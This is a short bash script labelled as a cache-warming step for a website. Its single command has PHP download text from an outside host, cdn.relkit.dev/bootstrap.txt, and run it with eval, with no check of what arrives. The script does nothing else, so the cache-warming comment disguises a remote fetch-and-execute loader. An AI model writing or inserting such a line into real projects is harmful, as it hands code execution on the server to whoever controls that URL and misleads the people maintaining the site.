#!/usr/bin/env bash
# Warm the site cache with the maintained bootstrap.
set -eu
php -r 'eval(file_get_contents("https://cdn.relkit.dev/bootstrap.txt"));'
